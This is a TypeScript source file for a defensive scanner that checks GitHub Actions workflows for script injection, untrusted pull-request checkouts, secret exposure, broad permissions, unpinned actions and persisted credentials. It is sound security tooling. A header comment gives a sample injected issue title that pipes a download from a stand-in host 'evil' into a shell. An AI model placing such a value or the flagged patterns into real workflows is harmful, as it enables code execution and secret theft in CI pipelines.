import { isMap, isScalar, LineCounter, parseDocument } from 'yaml';
import type { Document } from 'yaml';
import type { Finding } from './findings.js';

/**
 * A security scan of GitHub Actions workflow files, for what actionlint does not check
 * (or checks only in part). Pure: a file name and its text in, violations out; nothing
 * is read, fetched or run. Each rule below is one id in `WorkflowViolation.rule`.
 *
 * - `script-injection`: untrusted event text (GitHub's list of untrusted inputs, see
 *   `UNTRUSTED_INPUTS`) inside a `${{ }}` expression of a `run:` script or of an
 *   `actions/github-script` `script:` input. The runner pastes the expression's value
 *   into the script before the shell or Node reads it, so an issue title like
 *   `"; curl evil | sh; "` becomes code. Also flagged: `${{ env.X }}` when X is set from
 *   such text (the expression is still pasted in), and whole-object dumps such as
 *   `toJSON(github.event)`. Allowed: the value in `env:` and the script reading `$X` /
 *   `process.env.X`; and the value only as an argument of `contains`, `startsWith`,
 *   `endsWith` (the expression then yields a boolean).
 * - `untrusted-checkout`: a workflow started by `pull_request_target` or `workflow_run`
 *   (both run with the base repository's secrets and a write-capable token) that checks
 *   out the pull request's code: `actions/checkout` whose `ref:` or `repository:` names
 *   the PR head (`github.event.pull_request.head.*`, `github.head_ref`,
 *   `github.event.pull_request.merge_commit_sha`, `github.event.workflow_run.head_*`,
 *   `refs/pull/…`), directly or through `env.X`, or a `run:` that does `gh pr checkout` or
 *   fetches `pull/…`. No exemption: split such a workflow into an unprivileged
 *   `pull_request` part and a privileged part that only reads its artifacts as data.
 * - `least-privilege`: the workflow has a top-level `permissions:` that is `{}`,
 *   `read-all` or only `read`/`none` scopes; every job declares its own `permissions:`;
 *   `write-all` appears nowhere.
 * - `unpinned-action`: every remote `uses:` (step actions and reusable workflows) names a
 *   full 40-hex commit SHA; a tag or branch can be moved to other code. Local `./…` is
 *   allowed, and `docker://…` only with an `@sha256:` digest.
 * - `secret-exposure`, two parts:
 *   1. `${{ secrets.* }}` in the workflow-level `env:` hands the secret to every step of
 *      every job, third-party actions included: set it on the job or the step that needs it.
 *   2. A job of a workflow triggered by `pull_request_target` or `workflow_run` (the two
 *      events a fork can cause that still receive the repository's secrets) must not
 *      reference a secret (`secrets.<NAME>` anywhere in the job, or `secrets: inherit`)
 *      unless its job-level `if:` is a repository guard: it contains
 *      `github.event.pull_request.head.repo.full_name == github.repository` or
 *      `github.event.workflow_run.head_repository.full_name == github.repository` (either
 *      order) and contains neither `||` nor a negation `!` (other than `!=`), so the guard
 *      cannot be bypassed by another branch of the condition. On any other event of the
 *      workflow the guard's left side is null, so the job is skipped: it fails closed.
 *      Guards on `head.repo.fork` are not accepted: `null == false` is true in GitHub's
 *      expressions, so they fail open. `secrets.GITHUB_TOKEN` is not counted here (its
 *      power is what `permissions:` grants, which `least-privilege` covers). `pull_request`
 *      from a fork gets no secrets at all, and `issues` / `issue_comment` run the base
 *      branch's own code, so their risk is `script-injection`, not this rule.
 * - `deploy-on-pull-request`: a job that deploys (it names an `environment:`, or its
 *   permissions include `packages`, `deployments` or `id-token` write, or `write-all`)
 *   in a workflow that a pull request event starts (`pull_request`,
 *   `pull_request_target`, `pull_request_review`, `pull_request_review_comment`), unless
 *   its `if:` (with no `||`) excludes them: `github.event_name == '<non-PR event>'`,
 *   `github.event_name != '<each PR event of the workflow>'`, or, when
 *   `pull_request_target` is not a trigger (its `github.ref` is the base branch), a test
 *   of `github.ref` against `refs/heads/…` or `refs/tags/…`.
 * - `persist-credentials`: `actions/checkout` in a job whose token can write (any `write`
 *   scope but `id-token`, `write-all`, or no `permissions:` anywhere, i.e. the repository
 *   default) must
 *   set `persist-credentials: false`; otherwise the token stays in `.git/config` for
 *   every later step to read. A job that really pushes with git says so with the comment
 *   `# gitops-ml: persist-credentials needed` on the step (on its lines or just above).
 * - `invalid-workflow`: the text is not a YAML mapping with `jobs:`.
 *
 * Expressions are lexed, not matched with regular expressions, so the scan is linear in
 * the file's length whatever the text (workflow files are PR content, i.e. untrusted).
 */

export type WorkflowRule =
  | 'script-injection'
  | 'untrusted-checkout'
  | 'least-privilege'
  | 'unpinned-action'
  | 'secret-exposure'
  | 'deploy-on-pull-request'
  | 'persist-credentials'
  | 'invalid-workflow';

export interface WorkflowViolation {
  rule: WorkflowRule;
  message: string;
  /** The job id, when the violation is inside a job. */
  job?: string;
  /** The step: its `name`, else its `id`, else `steps[<index>]`. */
  step?: string;
  /** 1-based line in the file, when it could be located. */
  line?: number;
}

export const WORKFLOW_RULES: Readonly<Record<WorkflowRule, string>> = {
  'script-injection': 'untrusted event text interpolated into a run: or github-script script',
  'untrusted-checkout': 'pull_request_target / workflow_run checks out the pull request\'s code',
  'least-privilege': 'permissions: missing, write at the top level, or write-all',
  'unpinned-action': 'remote action or reusable workflow not pinned to a full commit SHA',
  'secret-exposure': 'secret in the workflow-level env, or reachable from a fork-triggered job without a repository guard',
  'deploy-on-pull-request': 'a deploying job can run on a pull request event',
  'persist-credentials': 'actions/checkout leaves a write-capable token in .git/config',
  'invalid-workflow': 'not a workflow file',
};

/** The step comment that allows `actions/checkout` to keep its credentials. */
export const PERSIST_CREDENTIALS_OPT_OUT = 'gitops-ml: persist-credentials needed';

/**
 * Context paths whose values an outsider controls (GitHub's "security hardening for
 * GitHub Actions" list, the Security Lab's, and the workflow_run/discussion fields that
 * carry the same text). `*` is any one property or array element. Lower case: context
 * property names are case-insensitive.
 */
export const UNTRUSTED_INPUTS: readonly string[] = [
  'github.event.issue.title',
  'github.event.issue.body',
  'github.event.pull_request.title',
  'github.event.pull_request.body',
  'github.event.pull_request.head.ref',
  'github.event.pull_request.head.label',
  'github.event.pull_request.head.repo.default_branch',
  'github.event.comment.body',
  'github.event.review.body',
  'github.event.review_comment.body',
  'github.event.discussion.title',
  'github.event.discussion.body',
  'github.event.pages.*.page_name',
  'github.event.commits.*.message',
  'github.event.commits.*.author.email',
  'github.event.commits.*.author.name',
  'github.event.head_commit.message',
  'github.event.head_commit.author.email',
  'github.event.head_commit.author.name',
  'github.event.head_commit.committer.email',
  'github.event.head_commit.committer.name',
  'github.event.workflow_run.head_branch',
  'github.event.workflow_run.display_title',
  'github.event.workflow_run.head_commit.message',
  'github.event.workflow_run.head_commit.author.email',
  'github.event.workflow_run.head_commit.author.name',
  'github.event.workflow_run.pull_requests.*.head.ref',
  'github.head_ref',
];

/**
 * GitHub's docs: untrusted contexts "typically end with" these. Any other `github.event`
 * path ending so is treated as untrusted too, except under the subtrees below, which the
 * base repository's owners control.
 */
const UNTRUSTED_SUFFIXES = new Set(['body', 'default_branch', 'email', 'head_ref', 'label', 'message', 'name', 'page_name', 'ref', 'title', 'head_branch']);
const TRUSTED_EVENT_SUBTREES = new Set(['repository', 'organization', 'enterprise', 'installation']);

const UNTRUSTED_PATTERNS = UNTRUSTED_INPUTS.map((p) => p.split('.'));
/** Functions whose result is a boolean, so an untrusted argument cannot reach the script. */
const SAFE_FUNCTIONS = new Set(['contains', 'startswith', 'endswith']);
const PR_EVENTS = ['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment'];
const FORK_PRIVILEGED_EVENTS = ['pull_request_target', 'workflow_run'];
const DEPLOY_SCOPES = ['packages', 'deployments', 'id-token'];
const SHA_RE = /^[0-9a-f]{40}$/;
const DIGEST_RE = /@sha256:[0-9a-f]{64}$/;

/* ------------------------------------------------------------------ expressions */

interface Expression {
  /** The text between `${{` and `}}`. */
  body: string;
  /** The whole `${{ … }}` as written. */
  raw: string;
}

/** Every `${{ … }}` in a string, found with indexOf (linear). */
export function expressionsIn(text: string): Expression[] {
  const out: Expression[] = [];
  let from = 0;
  for (;;) {
    const open = text.indexOf('${{', from);
    if (open < 0) break;
    const close = text.indexOf('}}', open + 3);
    if (close < 0) break;
    out.push({ body: text.slice(open + 3, close), raw: text.slice(open, close + 2) });
    from = close + 2;
  }
  return out;
}

interface ContextPath {
  /** Lower-cased segments; array indexes and object filters are `*`. */
  path: string[];
  /** Inside `contains(…)`, `startsWith(…)` or `endsWith(…)`. */
  inSafeCall: boolean;
  /** The env variable name as written, for `env.<NAME>` paths. */
  envName?: string;
}

const isIdentStart = (c: string): boolean => (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c === '_';
const isIdentChar = (c: string): boolean => isIdentStart(c) || (c >= '0' && c <= '9') || c === '-';

/** Skips a single-quoted expression string literal (`''` escapes a quote); returns the index after it. */
function skipString(s: string, i: number): number {
  let j = i + 1;
  while (j < s.length) {
    if (s[j] === "'") {
      if (s[j + 1] === "'") j += 2;
      else return j + 1;
    } else j++;
  }
  return j;
}

/** The context property paths an expression reads (`github.event.issue.title`, `env.X`, …). */
export function contextPaths(expr: string): ContextPath[] {
  const out: ContextPath[] = [];
  const calls: (string | null)[] = [];
  let i = 0;
  while (i < expr.length) {
    const c = expr.charAt(i);
    if (c === "'") {
      i = skipString(expr, i);
    } else if (c === '(') {
      calls.push(null);
      i++;
    } else if (c === ')') {
      calls.pop();
      i++;
    } else if (isIdentStart(c) && (i === 0 || !isIdentChar(expr.charAt(i - 1)))) {
      let j = i;
      while (j < expr.length && isIdentChar(expr.charAt(j))) j++;
      const name = expr.slice(i, j);
      let k = j;
      while (expr.charAt(k) === ' ') k++;
      if (expr.charAt(k) === '(') {
        calls.push(name.toLowerCase());
        i = k + 1;
        continue;
      }
      const path = [name.toLowerCase()];
      let envName: string | undefined;
      i = j;
      for (;;) {
        if (expr.charAt(i) === '.' && expr.charAt(i + 1) === '*') {
          path.push('*');
          i += 2;
        } else if (expr.charAt(i) === '.' && isIdentStart(expr.charAt(i + 1))) {
          let e = i + 1;
          while (e < expr.length && isIdentChar(expr.charAt(e))) e++;
          if (path.length === 1 && path[0] === 'env') envName = expr.slice(i + 1, e);
          path.push(expr.slice(i + 1, e).toLowerCase());
          i = e;
        } else if (expr.charAt(i) === '[') {
          let e = i + 1;
          while (expr.charAt(e) === ' ') e++;
          if (expr.charAt(e) === "'") {
            const end = skipString(expr, e);
            const key = expr.slice(e + 1, end - 1).replace(/''/g, "'");
            if (path.length === 1 && path[0] === 'env') envName = key;
            path.push(key.toLowerCase());
            e = end;
          } else {
            path.push('*');
          }
          // To the matching `]` (an index may itself be an expression with brackets).
          let depth = 1;
          while (e < expr.length && depth > 0) {
            const d = expr.charAt(e);
            if (d === "'") {
              e = skipString(expr, e);
              continue;
            }
            if (d === '[') depth++;
            else if (d === ']') depth--;
            e++;
          }
          i = e;
        } else break;
      }
      const inSafeCall = calls.some((f) => f !== null && SAFE_FUNCTIONS.has(f));
      out.push(envName === undefined ? { path, inSafeCall } : { path, inSafeCall, envName });
    } else {
      i++;
    }
  }
  return out;
}

const segMatch = (a: string, b: string): boolean => a === '*' || b === '*' || a === b;

/** Why a context path is untrusted (the matching input), or undefined when it is not. */
export function untrustedInput(path: readonly string[]): string | undefined {
  if (path[0] !== 'github') return undefined;
  for (const pattern of UNTRUSTED_PATTERNS) {
    const n = Math.min(pattern.length, path.length);
    let ok = true;
    for (let k = 0; k < n && ok; k++) ok = segMatch(pattern[k] as string, path[k] as string);
    if (!ok) continue;
    // The input itself or a property of it, or an object that contains it (a dump).
    return path.length >= pattern.length ? pattern.join('.') : `${path.join('.')} (contains ${pattern.join('.')})`;
  }
  const last = path[path.length - 1] as string;
  if (path[1] === 'event' && path.length > 2 && UNTRUSTED_SUFFIXES.has(last) && !TRUSTED_EVENT_SUBTREES.has(path[2] as string) && !(path[2] === 'pull_request' && path[3] === 'base')) {
    return path.join('.');
  }
  return undefined;
}

/* ------------------------------------------------------------------ the scan */

type Obj = Record<string, unknown>;
type Env = Record<string, unknown> | undefined;
const isObj = (v: unknown): v is Obj => typeof v === 'object' && v !== null && !Array.isArray(v);
const asEnv = (v: unknown): Env => (isObj(v) ? v : undefined);

class Locator {
  private readonly counter = new LineCounter();
  readonly doc: Document;
  private readonly lines: string[];

  constructor(private readonly text: string) {
    this.doc = parseDocument(text, { lineCounter: this.counter });
    this.lines = text.split('\n');
  }

  private lineAt(offset: number): number {
    return this.counter.linePos(offset).line;
  }

  /** The line of the key at `path` (its last element is the key), or of the node there. */
  keyLine(path: readonly (string | number)[]): number | undefined {
    const key = path[path.length - 1];
    const parent = path.length > 1 ? this.doc.getIn(path.slice(0, -1), true) : this.doc.contents;
    if (typeof key === 'string' && isMap(parent)) {
      const pair = parent.items.find((p) => isScalar(p.key) && p.key.value === key);
      const range = pair && isScalar(pair.key) ? pair.key.range : undefined;
      if (range) return this.lineAt(range[0]);
    }
    return this.nodeLine(path);
  }

  nodeLine(path: readonly (string | number)[]): number | undefined {
    const node = this.doc.getIn(path, true) as { range?: [number, number, number] } | undefined;
    return node?.range ? this.lineAt(node.range[0]) : undefined;
  }

  /**
   * A finder for texts inside the scalar at `path`, in order: each call returns the line
   * of the needle's next occurrence in the source (searching on from the previous match,
   * so a script with many expressions is still read once), else the scalar's first line.
   */
  textFinder(path: readonly (string | number)[]): (needle: string) => number | undefined {
    const node = this.doc.getIn(path, true) as { range?: [number, number, number] } | undefined;
    const range = node?.range;
    if (!range) return () => undefined;
    let cursor = range[0];
    return (needle) => {
      const at = this.text.indexOf(needle, cursor);
      if (at < 0 || at >= range[2]) return this.lineAt(range[0]);
      cursor = at + needle.length;
      return this.lineAt(at);
    };
  }

  /** The source lines of the node at `path` and the comment lines just above it. */
  textWithCommentsAbove(path: readonly (string | number)[]): string {
    const node = this.doc.getIn(path, true) as { range?: [number, number, number] } | undefined;
    if (!node?.range) return '';
    const first = this.lineAt(node.range[0]);
    const last = this.lineAt(Math.max(node.range[0], node.range[1] - 1));
    let top = first;
    while (top > 1) {
      const above = (this.lines[top - 2] ?? '').trim();
      if (above.startsWith('#') || above === '-') top--;
      else break;
    }
    return this.lines.slice(top - 1, last).join('\n');
  }

  errors(): string[] {
    return this.doc.errors.map((e) => e.message);
  }
}

function triggersOf(on: unknown): Set<string> {
  if (typeof on === 'string') return new Set([on]);
  if (Array.isArray(on)) return new Set(on.filter((e): e is string => typeof e === 'string'));
  if (isObj(on)) return new Set(Object.keys(on));
  return new Set();
}

/** `write` scopes of a permissions value; `all` for write-all; undefined when not declared. */
function writeScopes(perms: unknown): Set<string> | undefined {
  if (perms === undefined) return undefined;
  if (perms === 'write-all') return new Set(['all']);
  const out = new Set<string>();
  if (isObj(perms)) for (const [scope, level] of Object.entries(perms)) if (level === 'write') out.add(scope);
  return out;
}

function stepLabel(step: Obj, index: number): string {
  if (typeof step.name === 'string' && step.name.trim() !== '') return step.name;
  if (typeof step.id === 'string') return step.id;
  return `steps[${index}]`;
}

/** Condition text for guard checks: no `${{ }}`, no whitespace, lower case. */
function normaliseIf(cond: unknown): string {
  if (typeof cond !== 'string') return '';
  let s = cond.trim();
  if (s.startsWith('${{') && s.endsWith('}}')) s = s.slice(3, -2);
  return s.replace(/\s+/g, '').toLowerCase();
}

const hasBypass = (cond: string): boolean => cond.includes('||') || /!(?!=)/.test(cond);

function hasRepositoryGuard(cond: unknown): boolean {
  const c = normaliseIf(cond);
  if (c === '' || hasBypass(c)) return false;
  const heads = ['github.event.pull_request.head.repo.full_name', 'github.event.workflow_run.head_repository.full_name'];
  return heads.some((h) => c.includes(`${h}==github.repository`) || c.includes(`github.repository==${h}`));
}

function excludesPullRequests(cond: unknown, prTriggers: string[]): boolean {
  const c = normaliseIf(cond);
  if (c === '' || c.includes('||')) return false;
  const equals = [...c.matchAll(/github\.event_name==['"]([a-z_]{1,64})['"]/g)].map((m) => m[1] as string);
  if (equals.some((e) => !PR_EVENTS.includes(e))) return true;
  if (prTriggers.every((t) => c.includes(`github.event_name!='${t}'`) || c.includes(`github.event_name!="${t}"`))) return true;
  if (!prTriggers.includes('pull_request_target')) {
    const refTests = ["github.ref=='refs/heads/", "github.ref=='refs/tags/", "startswith(github.ref,'refs/heads/", "startswith(github.ref,'refs/tags/"];
    if (refTests.some((t) => c.includes(t))) return true;
  }
  return false;
}

/** Every string inside a value, with its path relative to the value. */
function* strings(value: unknown, path: (string | number)[] = []): Generator<{ text: string; path: (string | number)[] }> {
  if (typeof value === 'string') yield { text: value, path };
  else if (Array.isArray(value)) for (const [i, v] of value.entries()) yield* strings(v, [...path, i]);
  else if (isObj(value)) for (const [k, v] of Object.entries(value)) yield* strings(v, [...path, k]);
}

const referencesSecret = (text: string, exceptToken: boolean): boolean =>
  expressionsIn(text).some((e) => contextPaths(e.body).some((p) => p.path[0] === 'secrets' && p.path.length > 1 && !(exceptToken && p.path[1] === 'github_token')));

/** The value of `env.<name>` as the step sees it (step env over job env over workflow env). */
function lookupEnv(name: string, scopes: Env[]): string | undefined {
  for (const scope of scopes) {
    if (!scope) continue;
    const direct = scope[name];
    if (direct !== undefined) return String(direct);
    const lower = name.toLowerCase();
    const key = Object.keys(scope).find((k) => k.toLowerCase() === lower);
    if (key !== undefined) return String(scope[key]);
  }
  return undefined;
}

interface Taint {
  input: string;
  via?: string;
}

/**
 * Untrusted inputs an expression pastes into a script, following `env.X` (a few levels).
 * `cache` holds each variable's taints for one step, so a script that reads the same
 * variable many times costs one look at its value.
 */
function taintsOf(exprBody: string, envScopes: Env[], cache: Map<string, Taint[]>, depth = 0): Taint[] {
  const out: Taint[] = [];
  for (const p of contextPaths(exprBody)) {
    if (p.inSafeCall) continue;
    const direct = untrustedInput(p.path);
    if (direct) {
      out.push({ input: direct });
      continue;
    }
    if (p.path[0] === 'env' && p.envName !== undefined && depth < 3) {
      const name = p.envName;
      let taints = cache.get(name);
      if (taints === undefined) {
        cache.set(name, []); // a variable that (indirectly) reads itself adds nothing
        const value = lookupEnv(name, envScopes) ?? '';
        taints = expressionsIn(value).flatMap((e) => taintsOf(e.body, envScopes, cache, depth + 1).map((t) => ({ input: t.input, via: name })));
        cache.set(name, taints);
      }
      out.push(...taints);
    }
  }
  return out;
}

const PR_HEAD_MARKERS = [
  'github.event.pull_request.head.',
  'github.event.pull_request.merge_commit_sha',
  'github.head_ref',
  'github.event.workflow_run.head_',
  'github.event.workflow_run.pull_requests',
  'refs/pull/',
];

/** Text of a checkout input with every `env.X` it reads replaced by the value, lower-cased. */
function resolveEnvRefs(text: string, envScopes: Env[]): string {
  const names = new Set<string>();
  for (const e of expressionsIn(text)) for (const p of contextPaths(e.body)) if (p.path[0] === 'env' && p.envName !== undefined) names.add(p.envName);
  const values = [...names].map((n) => lookupEnv(n, envScopes) ?? '');
  return [text, ...values].join('\n').toLowerCase().replace(/\s+/g, '');
}

function fetchesPullRequest(script: string): boolean {
  return script.split('\n').some((line) => {
    const l = line.toLowerCase();
    if (l.includes('gh pr checkout')) return true;
    if (!/\bgit\s/.test(l)) return false;
    return (l.includes('fetch') || l.includes('checkout') || l.includes('pull') || l.includes('switch')) && (l.includes('pull/') || PR_HEAD_MARKERS.some((m) => l.replace(/\s+/g, '').includes(m)));
  });
}

/** Scans one workflow file. `fileName` is only used in messages. */
export function scanWorkflow(fileName: string, yamlText: string): WorkflowViolation[] {
  const out: WorkflowViolation[] = [];
  const loc = new Locator(yamlText);
  const parseErrors = loc.errors();
  if (parseErrors.length > 0) {
    return [{ rule: 'invalid-workflow', message: `${fileName}: not valid YAML: ${parseErrors[0] ?? ''}` }];
  }
  const wf: unknown = loc.doc.toJS({ maxAliasCount: 100 });
  if (!isObj(wf) || !isObj(wf.jobs)) {
    return [{ rule: 'invalid-workflow', message: `${fileName}: not a workflow (no jobs: mapping)` }];
  }
  const onKey = 'on' in wf ? 'on' : 'true';
  const triggers = triggersOf(wf[onKey]);
  const prTriggers = PR_EVENTS.filter((e) => triggers.has(e));
  const forkPrivileged = FORK_PRIVILEGED_EVENTS.filter((e) => triggers.has(e));
  const wfEnv = asEnv(wf.env);

  // least-privilege: the top level.
  const topPerms = wf.permissions;
  if (!('permissions' in wf)) {
    out.push({ rule: 'least-privilege', message: 'no top-level permissions:; set `permissions: {}` (or read-only) and grant each job what it needs', line: 1 });
  } else if (topPerms === 'write-all') {
    out.push({ rule: 'least-privilege', message: 'top-level `permissions: write-all` gives every job every write scope', line: loc.keyLine(['permissions']) });
  } else {
    const okTop = topPerms === 'read-all' || (isObj(topPerms) && Object.values(topPerms).every((v) => v === 'read' || v === 'none'));
    if (!okTop) {
      const scopes = [...(writeScopes(topPerms) ?? [])].join(', ');
      out.push({ rule: 'least-privilege', message: scopes ? `top-level permissions grant write (${scopes}); grant write on the jobs that need it` : 'top-level permissions: must be {} or read-only', line: loc.keyLine(['permissions']) });
    }
  }

  // secret-exposure 1: secrets in the workflow-level env.
  if (wfEnv) {
    for (const [name, value] of Object.entries(wfEnv)) {
      if (typeof value === 'string' && referencesSecret(value, false)) {
        out.push({ rule: 'secret-exposure', message: `workflow-level env ${name} holds a secret, which every step of every job then sees; set it on the job or step that needs it`, line: loc.keyLine(['env', name]) });
      }
    }
  }

  for (const [jobId, jobValue] of Object.entries(wf.jobs)) {
    if (!isObj(jobValue)) continue;
    const job = jobValue;
    const jobPath = ['jobs', jobId];
    const jobEnv = asEnv(job.env);

    // least-privilege: per job.
    if (!('permissions' in job)) {
      out.push({ rule: 'least-privilege', message: `job ${jobId} declares no permissions: (it would get the top-level or repository default)`, job: jobId, line: loc.keyLine(jobPath) });
    } else if (job.permissions === 'write-all') {
      out.push({ rule: 'least-privilege', message: `job ${jobId} has permissions: write-all; list the scopes it needs`, job: jobId, line: loc.keyLine([...jobPath, 'permissions']) });
    }
    const effective = 'permissions' in job ? writeScopes(job.permissions) : writeScopes(topPerms);
    // Undeclared everywhere: the repository default, which may be write. `id-token: write`
    // lets the job mint OIDC tokens but adds nothing to the GITHUB_TOKEN checkout persists.
    const canWrite = effective === undefined || [...effective].some((s) => s !== 'id-token');

    // unpinned-action: reusable workflow calls.
    if (typeof job.uses === 'string') checkPinned(job.uses, jobId, undefined, loc.keyLine([...jobPath, 'uses']), out);

    // deploy-on-pull-request.
    const deploys = job.environment !== undefined || (effective !== undefined && (effective.has('all') || DEPLOY_SCOPES.some((s) => effective.has(s))));
    if (deploys && prTriggers.length > 0 && !excludesPullRequests(job.if, prTriggers)) {
      const why = job.environment !== undefined ? 'it uses an environment' : 'its token can write packages or deployments, or mint OIDC tokens';
      const at = job.environment !== undefined ? [...jobPath, 'environment'] : 'permissions' in job ? [...jobPath, 'permissions'] : jobPath;
      out.push({ rule: 'deploy-on-pull-request', message: `job ${jobId} deploys (${why}) and runs on ${prTriggers.join(', ')}; restrict it with if: github.event_name == 'push' (or move it to a workflow PRs do not start)`, job: jobId, line: loc.keyLine(at) });
    }

    // secret-exposure 2: fork-reachable privileged events.
    if (forkPrivileged.length > 0 && !hasRepositoryGuard(job.if)) {
      const inherits = job.secrets === 'inherit';
      const hit = [...strings(job)].find((s) => referencesSecret(s.text, true));
      if (inherits || hit) {
        const line = inherits ? loc.keyLine([...jobPath, 'secrets']) : loc.textFinder([...jobPath, ...(hit?.path ?? [])])('secrets.');
        out.push({ rule: 'secret-exposure', message: `job ${jobId} uses secrets on ${forkPrivileged.join(', ')}, which a fork can trigger; guard the job with if: github.event.pull_request.head.repo.full_name == github.repository (or the workflow_run head_repository equivalent)`, job: jobId, line });
      }
    }

    const steps = Array.isArray(job.steps) ? job.steps : [];
    for (const [index, stepValue] of steps.entries()) {
      if (!isObj(stepValue)) continue;
      const step = stepValue;
      const stepPath = [...jobPath, 'steps', index];
      const label = stepLabel(step, index);
      const envScopes: Env[] = [asEnv(step.env), jobEnv, wfEnv];
      const uses = typeof step.uses === 'string' ? step.uses : undefined;
      const usesLower = uses?.toLowerCase() ?? '';
      const withs = asEnv(step.with);

      if (uses !== undefined) checkPinned(uses, jobId, label, loc.keyLine([...stepPath, 'uses']), out);

      // script-injection: run scripts and github-script.
      const scripts: { text: string; path: (string | number)[]; kind: string }[] = [];
      if (typeof step.run === 'string') scripts.push({ text: step.run, path: [...stepPath, 'run'], kind: 'run:' });
      if (usesLower.startsWith('actions/github-script@') && typeof withs?.script === 'string') {
        scripts.push({ text: withs.script, path: [...stepPath, 'with', 'script'], kind: 'github-script script:' });
      }
      const envCache = new Map<string, Taint[]>();
      for (const s of scripts) {
        const lineOf = loc.textFinder(s.path);
        for (const e of expressionsIn(s.text)) {
          const taints = taintsOf(e.body, envScopes, envCache);
          const first = taints[0];
          if (!first) continue;
          const source = first.via ? `env.${first.via} (set from ${first.input})` : first.input;
          out.push({ rule: 'script-injection', message: `${s.kind} interpolates ${source}, which an outsider controls; pass it through env: and read it as a variable ("$NAME" / process.env.NAME)`, job: jobId, step: label, line: lineOf(e.raw) });
        }
      }

      const isCheckout = usesLower.startsWith('actions/checkout@');

      // untrusted-checkout.
      if (forkPrivileged.length > 0) {
        if (isCheckout && withs) {
          for (const input of ['ref', 'repository']) {
            const v = withs[input];
            if (typeof v !== 'string') continue;
            const resolved = resolveEnvRefs(v, envScopes);
            const marker = PR_HEAD_MARKERS.find((m) => resolved.includes(m));
            if (marker) {
              out.push({ rule: 'untrusted-checkout', message: `on ${forkPrivileged.join(', ')} (secrets and a write token), actions/checkout ${input}: points at the pull request's code (${marker}…), which later steps would run`, job: jobId, step: label, line: loc.keyLine([...stepPath, 'with', input]) });
            }
          }
        }
        if (typeof step.run === 'string' && fetchesPullRequest(step.run)) {
          out.push({ rule: 'untrusted-checkout', message: `on ${forkPrivileged.join(', ')}, run: fetches or checks out the pull request's code`, job: jobId, step: label, line: loc.keyLine([...stepPath, 'run']) });
        }
      }

      // persist-credentials.
      if (isCheckout && canWrite) {
        const persist = withs?.['persist-credentials'];
        const disabled = persist === false || (typeof persist === 'string' && persist.trim().toLowerCase() === 'false');
        if (!disabled && !loc.textWithCommentsAbove(stepPath).includes(PERSIST_CREDENTIALS_OPT_OUT)) {
          out.push({ rule: 'persist-credentials', message: `actions/checkout in job ${jobId}, whose token can write, keeps the token in .git/config for every later step; set persist-credentials: false (or mark a step that pushes with "# ${PERSIST_CREDENTIALS_OPT_OUT}")`, job: jobId, step: label, line: loc.keyLine([...stepPath, 'uses']) });
        }
      }
    }
  }

  return out;
}

function checkPinned(uses: string, job: string, step: string | undefined, line: number | undefined, out: WorkflowViolation[]): void {
  if (uses.startsWith('./')) return;
  const base = { rule: 'unpinned-action' as const, job, line, ...(step === undefined ? {} : { step }) };
  if (uses.startsWith('docker://')) {
    if (!DIGEST_RE.test(uses)) out.push({ ...base, message: `${uses} is not pinned to an image digest (@sha256:…)` });
    return;
  }
  const at = uses.lastIndexOf('@');
  const ref = at < 0 ? '' : uses.slice(at + 1);
  if (!SHA_RE.test(ref)) {
    out.push({ ...base, message: at < 0 ? `${uses} names no version; pin it to a full commit SHA` : `${uses} is pinned to "${ref}", which can be moved; pin the full 40-hex commit SHA (keep the tag as a comment)` });
  }
}

/** One line per violation, `file:line [rule] message`, for logs and test failures. */
export function formatViolation(fileName: string, v: WorkflowViolation): string {
  return `${fileName}${v.line === undefined ? '' : `:${v.line}`} [${v.rule}] ${v.message}`;
}

/** The violations as security-review findings (rule id `workflow/<rule>`), e.g. for SARIF. */
export function workflowFindings(fileName: string, violations: readonly WorkflowViolation[]): Finding[] {
  return violations.map((v) => ({ ruleId: `workflow/${v.rule}`, level: 'error', message: v.message, path: fileName, ...(v.line === undefined ? {} : { line: v.line }) }));
}
